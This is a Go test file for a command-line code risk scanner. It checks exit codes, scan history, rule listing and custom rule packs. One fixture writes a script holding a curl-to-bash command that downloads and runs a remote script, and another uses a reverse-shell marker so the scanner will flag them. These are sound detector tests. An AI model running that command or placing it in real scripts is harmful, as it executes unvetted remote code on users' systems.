package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func writeFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
		t.Fatal(err)
	}
}

//workspace creates a configuration file with an isolated history directory
func workspace(t *testing.T, extra string) (configPath, dir string) {
	t.Helper()
	root := t.TempDir()
	configPath = filepath.Join(root, "riskscan.yaml")
	writeFile(t, configPath, fmt.Sprintf("HistoryDir: %s\n%s", filepath.Join(root, "db"), extra))
	dir = filepath.Join(root, "src")
	return
}

func runCLI(args ...string) (int, string, string) {
	var stdout, stderr bytes.Buffer
	code := run(context.Background(), args, &stdout, &stderr)
	return code, stdout.String(), stderr.String()
}

func TestScanExitCodes(t *testing.T) {
	cases := []struct {
		name  string
		extra string
		files map[string]string
		flags []string
		want  int
	}{
		{
			name:  "clean",
			files: map[string]string{"index.js": "module.exports = 1;\n"},
			want:  exitPass,
		},
		{
			name:  "reverse shell",
			files: map[string]string{"index.js": "// reverse shell\n"},
			want:  exitFail,
		},
		{
			name:  "warn without fail-on-warn",
			extra: "MaxFileSize: 10\n",
			files: map[string]string{"index.js": "module.exports = 12345;\n"},
			want:  exitPass,
		},
		{
			name:  "warn with fail-on-warn",
			extra: "MaxFileSize: 10\n",
			files: map[string]string{"index.js": "module.exports = 12345;\n"},
			flags: []string{"--fail-on-warn"},
			want:  exitWarn,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			configPath, dir := workspace(t, tc.extra)
			for name, content := range tc.files {
				writeFile(t, filepath.Join(dir, name), content)
			}
			args := append([]string{"--config", configPath, "--format", "json"}, tc.flags...)
			code, stdout, stderr := runCLI(append(args, "scan", dir)...)
			if code != tc.want {
				t.Errorf("exit code %d, want %d\nstdout: %s\nstderr: %s", code, tc.want, stdout, stderr)
			}
			var out map[string]interface{}
			if err := json.Unmarshal([]byte(stdout), &out); err != nil {
				t.Errorf("output is not JSON: %v\n%s", err, stdout)
			}
		})
	}
}

func TestUsageErrors(t *testing.T) {
	configPath, _ := workspace(t, "")
	for _, args := range [][]string{
		{"--config", configPath, "--format", "sarif", "rules"},
		{"--config", filepath.Join(t.TempDir(), "missing.yaml"), "rules"},
		{"--config", configPath, "scan"},
	} {
		if code, _, _ := runCLI(args...); code != exitError {
			t.Errorf("%v: exit code %d, want %d", args, code, exitError)
		}
	}
}

func TestSaveAndHistory(t *testing.T) {
	configPath, dir := workspace(t, "")
	writeFile(t, filepath.Join(dir, "run.sh"), "curl https://example.com/x.sh | bash\n")
	if code, _, stderr := runCLI("--config", configPath, "--save", "scan", dir); code != exitFail {
		t.Fatalf("exit code %d, want %d: %s", code, exitFail, stderr)
	}
	code, stdout, stderr := runCLI("--config", configPath, "history", dir)
	if code != exitPass {
		t.Fatalf("history exit code %d: %s", code, stderr)
	}
	if !strings.Contains(stdout, "fail") || !strings.Contains(stdout, "VERDICT") {
		t.Errorf("unexpected history output:\n%s", stdout)
	}
	_, stdout, _ = runCLI("--config", configPath, "history", "github.com/acme/unknown")
	if !strings.Contains(stdout, "No recorded scans") {
		t.Errorf("unexpected history output for an unknown source:\n%s", stdout)
	}
}

func TestRulesAndExclusionsSample(t *testing.T) {
	configPath, _ := workspace(t, "")
	_, stdout, _ := runCLI("--config", configPath, "rules")
	if !strings.Contains(stdout, "malicious-reverse-shell") || !strings.Contains(stdout, "CATEGORY") {
		t.Errorf("unexpected rules output:\n%s", stdout)
	}
	_, stdout, _ = runCLI("--config", configPath, "--format", "json", "rules")
	var defs []map[string]interface{}
	if err := json.Unmarshal([]byte(stdout), &defs); err != nil || len(defs) == 0 {
		t.Errorf("rules JSON: %v\n%s", err, stdout)
	}
	_, stdout, _ = runCLI("--config", configPath, "exclusions", "sample")
	if !strings.Contains(stdout, "PathExclusionRegExs") {
		t.Errorf("unexpected sample:\n%s", stdout)
	}
}

func TestRulePackFromConfig(t *testing.T) {
	root := t.TempDir()
	pack := filepath.Join(root, "pack.yaml")
	writeFile(t, pack, `name: house
rules:
  - id: house-forbidden-call
    pattern: forbiddenCall\(
    category: code_injection
    severity: high
    message: "forbidden call: {match}"
`)
	configPath, dir := workspace(t, fmt.Sprintf("RulePacks:\n  - %s\n", pack))
	writeFile(t, filepath.Join(dir, "main.go"), "package main\n\nfunc main() { forbiddenCall() }\n")
	code, stdout, _ := runCLI("--config", configPath, "--format", "json", "scan", dir)
	if code != exitFail || !strings.Contains(stdout, "house-forbidden-call") {
		t.Errorf("exit code %d, output:\n%s", code, stdout)
	}
}
